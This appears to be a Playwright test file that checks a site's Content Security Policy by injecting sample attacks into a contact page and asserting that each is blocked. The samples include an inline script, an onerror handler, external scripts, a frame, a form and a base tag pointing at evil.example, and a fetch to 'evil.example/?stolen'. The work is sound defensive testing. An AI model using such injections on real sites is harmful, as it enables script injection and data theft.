import {createServer} from 'node:http';
import {freePort} from '../support/freePort';
import {policyViolations, watchPolicy} from './policyViolations';
import {expect, test} from './support';

/** What a page's policy blocks. That it blocks nothing of a page itself: pages.spec.ts. */
test.use({reducedMotion: 'reduce'});

test.describe('whatever gets into a page from outside does nothing', () => {
  const attacks: [name: string, inject: () => void, directive: string][] = [
    [
      'an inline script',
      () => {
        const script = document.createElement('script');
        script.textContent = 'document.title = "taken over"';
        document.body.append(script);
      },
      'script-src-elem',
    ],
    [
      'an event handler in markup',
      () => {
        document.body.insertAdjacentHTML(
          'beforeend',
          '<img src="/nope.png" onerror="document.title = \'taken over\'">',
        );
      },
      'script-src-attr',
    ],
    [
      'a script of another server',
      () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/script.js';
        document.body.append(script);
      },
      'script-src-elem',
    ],
    [
      'a style in markup',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<p style="position: fixed; inset: 0">');
      },
      'style-src-attr',
    ],
    [
      'a frame',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
      },
      'frame-src',
    ],
    [
      'a form that posts elsewhere',
      () => {
        document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/" method="post"></form>');
        document.forms[document.forms.length - 1]?.submit();
      },
      'form-action',
    ],
    [
      'a base for every link',
      () => {
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.append(base);
      },
      'base-uri',
    ],
    [
      'a request to another server',
      () => {
        fetch('https://evil.example/?stolen').catch(() => {
          // The policy's doing: it is what the test waits for.
        });
      },
      'connect-src',
    ],
  ];

  test('neither scripts and styles, nor frames, forms and requests', async ({page, problems}) => {
    await watchPolicy(page);
    const reached: string[] = [];
    await page.route('https://evil.example/**', (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await page.goto('/contact');
    for (const [name, inject, directive] of attacks) {
      const before = (await policyViolations(page)).length;
      await page.evaluate(inject);
      const blocked = async () => (await policyViolations(page)).slice(before).map((violation) => violation.directive);
      await expect.poll(blocked, name).toContain(directive);
    }
    expect(await page.evaluate(() => [document.title, document.baseURI])).not.toContain('taken over');
    expect(page.url()).toMatch(/\/contact$/);
    expect(reached).toEqual([]);
    // The browser names what it blocked in its console.
    expect(problems.splice(0)).not.toEqual([]);
  });

  test('another site that shows this one in a frame gets nothing of it', async ({page, baseURL, problems}) => {
    const other = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe src="${baseURL}/contact"></iframe>`);
    });
    const port = await freePort();
    await new Promise<void>((resolve) => other.listen(port, resolve));
    try {
      await page.goto(`http://localhost:${port}/`);
      await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    } finally {
      other.close();
      problems.splice(0);
    }
  });
});
